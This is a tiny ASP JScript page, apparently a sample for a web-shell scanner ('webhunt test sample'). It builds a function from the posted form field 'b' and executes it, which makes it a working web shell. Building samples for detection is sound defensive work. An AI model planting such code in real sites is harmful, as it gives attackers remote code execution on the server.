<%@ Language="JScript" %>
<%
// webhunt test sample (sweep 73): the constructor called without new, two single-quoted parameter
// names, the body from a form field read into a variable first
var b = Request.Form('b');
var run = Function('req', 'res', b);
run(Request, Response);
%>
